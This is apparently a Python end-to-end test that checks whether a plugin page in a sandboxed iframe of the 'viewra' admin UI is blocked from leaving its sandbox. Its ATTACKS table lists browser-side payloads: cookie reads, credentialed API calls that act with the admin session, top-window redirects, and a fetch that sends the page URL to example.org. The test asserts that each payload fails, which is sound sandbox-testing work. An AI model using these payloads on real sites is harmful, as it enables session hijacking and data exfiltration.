"""A plugin's page in a browser: its own scripts and forms work, and it can neither read the session nor act with it."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import MANIFEST
from tests.e2e.browsing import PASSWORD, Look, browsing, looking, needs_chromium, serving
from tests.eventually import eventually

pytestmark = [needs_chromium, pytest.mark.process, pytest.mark.timeout(120)]

CODE = """
from viewra.sdk import Plugin, serve
from viewra.sdk.http import page, route

class Shelf(Plugin):
    @route("GET", "/data")
    def data(self, request):
        return {"scope": request.scope, "cookie": request.headers.get("cookie")}

    @page("/", "Shelf", methods=["GET", "POST"])
    def shelf(self, request):
        sent = request.form().get("book", "") if request.method == "POST" else ""
        return f'''<h1>Shelf</h1><p id="sent">{sent}</p><p id="data"></p>
            <form method="post"><input name="book"><button>Keep</button></form>
            <script>fetch("{request.route_url("/data")}").then(r => r.text())
                .then(t => document.getElementById("data").textContent = t)</script>'''

serve(Shelf())
"""
ATTACKS = {
    "read the cookie": "document.cookie",
    "read the host's page": "parent.document.title",
    "keep something": "localStorage.setItem('a', 1)",
    "lead the window elsewhere": "top.location.href = 'https://example.org/'",
    "ask the API": "fetch('/api/v1/plugins', {credentials: 'include'})",
    "act with the session": "fetch('/api/v1/plugins/shelf/disable', {method: 'POST', credentials: 'include'})",
    "tell somebody": "fetch('https://example.org/?' + location.href, {mode: 'no-cors'})",
    "open a window": "open('/admin/').document",
    "look at another picture": "new Promise((done, no) => Object.assign(new Image(), "
    "{onload: done, onerror: () => no('refused'), src: '/admin/assets/icon.svg'}))",
}


def _in_menu(look: Look) -> int:
    look.go("/admin/")
    return look.page.get_by_role("link", name="Shelf", exact=True).count()


def test_a_page_works_in_its_sandbox_and_cannot_leave_it(tmp_path: Path) -> None:
    plugin = tmp_path / "plugins" / "shelf"
    plugin.mkdir(parents=True)
    (plugin / "main.py").write_text(CODE)
    claims = "api_registration: true, admin_page: true"
    (plugin / "plugin.cue").write_text(
        MANIFEST.format(plugin_id="shelf", entry="main.py", capabilities=claims, extra="")
    )
    arguments = ("--plugins", tmp_path / "plugins")
    with browsing() as browser, serving(tmp_path / "data", *arguments) as served, looking(browser, served.base) as look:
        look.go(served.link)
        look.page.get_by_label("Password").fill(PASSWORD)
        look.page.get_by_label("Once more").fill(PASSWORD)
        look.press("Set the password")
        look.go("/admin/plugin/shelf")
        look.press("Enable")
        look.page.get_by_role("button", name="Disable", exact=True).wait_for()
        eventually(lambda: _in_menu(look), "the page is in the menu")
        look.page.get_by_role("link", name="Shelf", exact=True).first.click()
        inside = look.page.frame_locator("iframe.plugin-page")
        inside.get_by_text('"cookie":null').wait_for()
        inside.locator("input").fill("Ulysses")
        inside.get_by_role("button", name="Keep").click()
        inside.get_by_text("Ulysses").wait_for()
        frame = look.page.frames[1]
        for attack, script in ATTACKS.items():
            told = frame.evaluate(
                f"async () => {{ try {{ await ({script}); return 'done' }} catch (e) {{ return 'no' }} }}"
            )
            assert told == "no", attack
        assert look.page.url == f"{served.base}/admin/plugins/shelf/"
        assert all(url.startswith((served.base, "data:")) for url in look.asked)
